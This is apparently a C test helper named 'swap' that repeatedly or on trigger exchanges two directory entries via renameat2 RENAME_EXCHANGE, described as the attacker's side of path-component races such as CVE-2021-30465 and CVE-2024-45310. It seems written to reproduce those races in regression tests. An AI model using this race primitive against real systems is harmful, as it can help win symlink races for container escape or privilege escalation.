/*
 * swap PATH OTHER
 * swap --once PATH OTHER
 * swap --when-opened FILE PATH OTHER
 *
 * Exchanges two directory entries (renameat2(2), RENAME_EXCHANGE). This is the attacker's part in a race on a path component, as in
 * CVE-2021-30465 and CVE-2024-45310. Repeats until SIGTERM, an even number of times, so that the entries end in place. With --once,
 * exchanges once. With --when-opened, takes a lease on FILE (fcntl(2), F_SETLEASE), prints "ready", and exchanges once when another process
 * opens FILE, which blocks until the exchange is done.
 */
#include <errno.h>
#include <fcntl.h>
#include <linux/fs.h>
#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>

static volatile sig_atomic_t stop;

static void on_signal(int signal)
{
	(void)signal;
	stop = 1;
}

static int failed(const char *path)
{
	fprintf(stderr, "swap: %s: %s\n", path, strerror(errno));
	return 125;
}

static int exchange(char **paths)
{
	return syscall(SYS_renameat2, AT_FDCWD, paths[0], AT_FDCWD, paths[1], RENAME_EXCHANGE) ? failed(paths[0]) : 0;
}

static int when_opened(const char *file, char **paths)
{
	sigset_t opened;
	sigemptyset(&opened);
	sigaddset(&opened, SIGIO);
	sigprocmask(SIG_BLOCK, &opened, NULL);
	int fd = open(file, O_RDONLY | O_CLOEXEC);
	if (fd < 0 || fcntl(fd, F_SETLEASE, F_WRLCK))
		return failed(file);
	puts("ready");
	fflush(stdout);
	sigwaitinfo(&opened, NULL);
	int status = exchange(paths);
	if (fcntl(fd, F_SETLEASE, F_UNLCK))
		return failed(file);
	return status;
}

int main(int argc, char **argv)
{
	if (argc == 4 && !strcmp(argv[1], "--once"))
		return exchange(argv + 2);
	if (argc == 5 && !strcmp(argv[1], "--when-opened"))
		return when_opened(argv[2], argv + 3);
	if (argc != 3) {
		fprintf(stderr, "usage: swap [--once | --when-opened FILE] PATH OTHER\n");
		return 125;
	}
	signal(SIGTERM, on_signal);
	for (unsigned long swaps = 0; !stop || swaps % 2; swaps++) {
		if (exchange(argv + 1))
			return 125;
	}
	return 0;
}
